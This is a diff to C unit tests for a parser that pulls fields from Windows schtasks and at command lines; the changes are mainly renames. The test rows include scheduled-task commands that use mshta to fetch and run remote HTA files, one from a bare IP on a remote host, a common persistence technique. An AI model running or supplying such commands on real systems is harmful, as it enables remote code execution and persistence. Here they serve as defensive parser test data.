@@ -1,8 +1,8 @@
-#include "unit/asked.h"
+#include "unit/script-rows.h"
 
 /* ---- schtasks ---- */
 
-static const struct asked_row schtasks[] = {
+static const struct script_row schtasks[] = {
 	/* Verbs, in all spellings */
 	{ "schtasks", "list" },
 	{ "schtasks /query", "list" },
@@ -36,7 +36,7 @@ static const struct asked_row schtasks[] = {
 	{ "schtasks /run /tn x /tn y", "run \\x" },
 	{ "schtasks /run /delete /tn x", "run \\x" },
 	{ "schtasks /run /tn x /bogus y", "run \\x" },
-	/* What it runs */
+	/* The action */
 	{ "schtasks /create /sc minute /mo 1 /tn \"Every minute\" /tr d:\\jobs\\minute.exe", "create \\Every minute = d:\\jobs\\minute.exe" },
 	{ "\"C:\\Windows\\System32\\schtasks.exe\" /Create /sc MINUTE /MO 60 /TN Refresh_ /TR \"mshta.exe https://intranet.example/page.hta\" /F", "create \\Refresh_ = mshta.exe https://intranet.example/page.hta" },
 	{ "schtasks /create /tn x /tr \"\\\"C:\\Program Files\\a.exe\\\" -b \\\"c d\\\"\"", "create \\x = \"C:\\Program Files\\a.exe\" -b \"c d\"" },
@@ -55,7 +55,7 @@ static const struct asked_row schtasks[] = {
 	{ "schtasks.exe /create /s fs02 /tn WinSAT2 /tr \"mshta.exe http://203.0.113.80/w.hta\" /sc once /st 23:59", "create \\WinSAT2 = mshta.exe http://203.0.113.80/w.hta @fs02" },
 	{ "schtasks /create /tn x /xml C:\\x.xml", "create \\x" },
 	{ "schtasks /create /tn %name% /tr %run%", "create \\%name% = %run%" },
-	/* None */
+	/* No tasks */
 	{ "schtasks /?", "" },
 	{ "schtasks /create /?", "" },
 	{ "schtasks -?", "" },
@@ -70,7 +70,7 @@ static const struct asked_row schtasks[] = {
 
 /* ---- at ---- */
 
-static const struct asked_row at[] = {
+static const struct script_row at[] = {
 	{ "at", "list" },
 	{ "at \\\\fs02", "list @fs02" },
 	{ "at 13:20 /interactive cmd", "create = cmd" },
@@ -101,17 +101,17 @@ rows_are_read(void **state)
 {
 	(void)state;
 	for (size_t i = 0; i < nitems(schtasks); i++)
-		assert_asked(LANGUAGE_NONE, &schtasks[i]);
+		assert_script_row(LANGUAGE_NONE, &schtasks[i]);
 	for (size_t i = 0; i < nitems(at); i++)
-		assert_asked(LANGUAGE_NONE, &at[i]);
+		assert_script_row(LANGUAGE_NONE, &at[i]);
 }
 
 /* ---- Fields ---- */
 
-static struct asking *
+static struct script_run *
 one(const char *text)
 {
-	struct asking *a = asked(LANGUAGE_NONE, text);
+	struct script_run *a = run_script(LANGUAGE_NONE, text);
 
 	if (a->facts.n != 1)
 		print_error("%s\n", text);
@@ -122,16 +122,16 @@ one(const char *text)
 static void
 assert_one(const char *text, enum field f, const char *want)
 {
-	struct asking *a = one(text);
+	struct script_run *a = one(text);
 
 	assert_field(a->facts.o[0], f, want);
-	asked_end(a);
+	run_end(a);
 }
 
 static void
 a_whole_task(void **state)
 {
-	struct asking *a = one("schtasks /create /s fs02 /u CORP\\adm /p S3cret /tn \"\\a\\b c\" "
+	struct script_run *a = one("schtasks /create /s fs02 /u CORP\\adm /p S3cret /tn \"\\a\\b c\" "
 	    "/tr \"\\\"C:\\Program Files\\x.exe\\\" -y \\\"z\\\"\" /sc minute /mo 015 /sd 2026/11/24 "
 	    "/st 9:05 /du 0024:30 /ru \"NT AUTHORITY\\SYSTEM\" /rl HIGHEST /z /f");
 	const struct fact *o = a->facts.o[0];
@@ -155,7 +155,7 @@ a_whole_task(void **state)
 	assert_int_equal(field_int(o, F_HAS_PASSWORD), true);
 	for (const struct fact_item *i = NULL; (i = fact_each(o, i)) != NULL;)
 		assert_null(i->str != NULL ? strstr(i->str, "S3cret") : NULL);
-	asked_end(a);
+	run_end(a);
 }
 
 static void
@@ -173,7 +173,7 @@ schedules_become_triggers(void **state)
 		{ "/sc", NULL, NULL }, { "", NULL, NULL },
 	};
 	char text[128];
-	struct asking *a;
+	struct script_run *a;
 
 	(void)state;
 	for (size_t i = 0; i < nitems(rows); i++) {
@@ -182,7 +182,7 @@ schedules_become_triggers(void **state)
 		a = one(text);
 		assert_field(a->facts.o[0], F_TRG_TYPE, rows[i].type);
 		assert_field(a->facts.o[0], F_TRG_REP_INTERVAL, rows[i].interval);
-		asked_end(a);
+		run_end(a);
 	}
 	assert_one("schtasks /create /sc onidle /i 10", F_SET_IDLE_DURATION, "PT10M");
 	assert_one("schtasks /create /sc onstart /delay 0005:30", F_TRG_DELAY, "PT5M30S");
@@ -196,7 +196,7 @@ schedules_become_triggers(void **state)
 	assert_one("schtasks /create /sc onevent /mo *", F_TRG_SUBSCRIPTION, NULL);
 }
 
-/* A date is told only where it can be read in one way. */
+/* A date is kept only where it can be read in one way. */
 static void
 starts_are_sure(void **state)
 {
@@ -237,7 +237,7 @@ principals_are_told(void **state)
 	assert_one("schtasks /create /tn x", F_USER_ID, NULL);
 	assert_one("schtasks /create /rl limited", F_RUN_LEVEL, "LeastPrivilege");
 	assert_one("schtasks /create /rl x", F_RUN_LEVEL, NULL);
-	/* None of it is a definition elsewhere. */
+	/* Other verbs have no definition. */
 	assert_one("schtasks /run /tn x /ru u /tr y", F_USER_ID, NULL);
 	assert_one("schtasks /run /tn x /ru u /tr y", F_ACT_COMMAND, NULL);
 	assert_one("schtasks /change /tn x /sc daily /ru u", F_TRG_TYPE, NULL);
@@ -253,40 +253,40 @@ passwords_are_flagged(void **state)
 		{ "schtasks /create /ru u /rp /f", false }, { "schtasks /create /ru u /rp \"\"", false },
 		{ "schtasks /create /tn rp", false },
 	};
-	struct asking *a;
+	struct script_run *a;
 	int64_t n;
 
 	(void)state;
 	for (size_t i = 0; i < nitems(rows); i++) {
 		a = one(rows[i].text);
 		assert_int_equal(fact_get_int(a->facts.o[0], F_HAS_PASSWORD, &n), rows[i].has);
-		asked_end(a);
+		run_end(a);
 	}
 }
 
 static void
 enabling_with_a_change_is_an_update(void **state)
 {
-	struct asking *a = one("schtasks /change /tn x /tr y /disable");
+	struct script_run *a = one("schtasks /change /tn x /tr y /disable");
 
 	(void)state;
 	assert_field(a->facts.o[0], F_ACTION, "update");
 	assert_int_equal(field_int(a->facts.o[0], F_SET_ENABLED), false);
-	asked_end(a);
+	run_end(a);
 }
 
 static void
 jobs_of_at(void **state)
 {
-	struct asking *a = one("at 17 /delete");
+	struct script_run *a = one("at 17 /delete");
 	int64_t n;
 
 	(void)state;
 	assert_int_equal(field_int(a->facts.o[0], F_JOB_ID), 17);
-	asked_end(a);
+	run_end(a);
 	a = one("at 99999999999 /delete");
 	assert_false(fact_get_int(a->facts.o[0], F_JOB_ID, &n));
-	asked_end(a);
+	run_end(a);
 	assert_one("at 9:00 x", F_TRG_TYPE, "time");
 	assert_one("at 9:00 /next:5 x", F_TRG_TYPE, "time");
 	assert_one("at 9:00 /every:5 x", F_TRG_TYPE, "calendar");
@@ -297,18 +297,18 @@ jobs_of_at(void **state)
 static void
 every_truncation_is_safe(void **state)
 {
-	static const struct { const struct asked_row *row; size_t n; } tables[] = {
+	static const struct { const struct script_row *row; size_t n; } tables[] = {
 		{ schtasks, nitems(schtasks) }, { at, nitems(at) }
 	};
-	struct asking *a;
+	struct script_run *a;
 
 	(void)state;
 	for (size_t t = 0; t < nitems(tables); t++)
 		for (size_t i = 0; i < tables[t].n; i++)
 			for (size_t n = 0; n < strlen(tables[t].row[i].in); n++) {
-				a = asked(LANGUAGE_NONE, "");
-				ask_bytes(a, LANGUAGE_NONE, tables[t].row[i].in, n);
-				asked_end(a);
+				a = run_script(LANGUAGE_NONE, "");
+				run_bytes(a, LANGUAGE_NONE, tables[t].row[i].in, n);
+				run_end(a);
 			}
 }
 
